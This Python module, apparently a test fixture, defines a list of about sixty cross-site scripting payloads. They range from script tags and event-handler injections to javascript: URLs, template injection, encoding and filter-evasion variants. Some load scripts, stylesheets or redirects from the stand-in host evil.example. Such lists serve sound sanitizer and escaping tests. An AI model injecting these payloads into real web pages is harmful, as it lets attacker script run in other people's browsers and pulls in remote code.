"""Sixty texts that would do something if any page took them for markup, a template, an address or a script."""

from __future__ import annotations

XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>", "\"><script>alert(4)</script>",
    "'><img src=x onerror=alert(5)>", "javascript:alert(6)", "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<a href=javascript:alert(8)>x</a>", "<body onload=alert(9)>", "<style>@import '//evil.example'</style>",
    "<math><mtext></mtext><script>alert(11)</script></math>", "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>", "{{constructor.constructor('alert(14)')()}}", "${alert(15)}",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</textarea><script>alert(18)</script>", "\u202e<script>alert(19)</script>", "<form action=//evil.example><button>x",
    "<ScRiPt>alert(21)</sCrIpT>", "<script/src=//evil.example/21.js></script>", "<script\x0b>alert(23)</script>",
    "<scr<script>ipt>alert(24)</scr</script>ipt>", "<img/src='x'/onerror='alert(25)'>", "<img src=x onerror\x0c=alert(26)>",
    "<img src=`x` onerror=alert(27)>", "<svg><animate onbegin=alert(28) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(29)>", "<svg><script href=data:,alert(30) /></svg>",
    "<svg><foreignObject><body onload=alert(31)></foreignObject></svg>", "<video><source onerror=alert(32)></video>",
    "<audio src=x onerror=alert(33)>", "<object data=javascript:alert(34)>", "<embed src=javascript:alert(35)>",
    "<link rel=stylesheet href=//evil.example/36.css>", "<link rel=import href=//evil.example/37.html>",
    "<table background=javascript:alert(38)>", "<isindex action=javascript:alert(39) type=image>",
    "<marquee onstart=alert(40)>", "<select autofocus onfocus=alert(41)>", "<keygen autofocus onfocus=alert(42)>",
    "<div style=background:url(javascript:alert(43))>", "<div style='width:expression(alert(44))'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(45)>\">", "<template><script>alert(46)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(47)></xss>", "<a href='data:text/html,<script>alert(48)</script>'>x</a>",
    "<a href='jav&#x09;ascript:alert(49)'>x</a>", "&lt;script&gt;alert(50)&lt;/script&gt;", "%3Cscript%3Ealert(51)%3C/script%3E",
    "\\u003cscript\\u003ealert(52)\\u003c/script\\u003e", "<!--<img src=--><img src=x onerror=alert(53)//>",
    "<![CDATA[<script>alert(54)</script>]]>", "]]><script>alert(55)</script>", "--></style></script><script>alert(56)</script>",
    "'-alert(57)-'", "\";alert(58);//", "__proto__[innerHTML]=<img/src/onerror=alert(59)>", "\u2028alert(60)\u2029<svg/onload=alert(60)>",
]  # fmt: skip
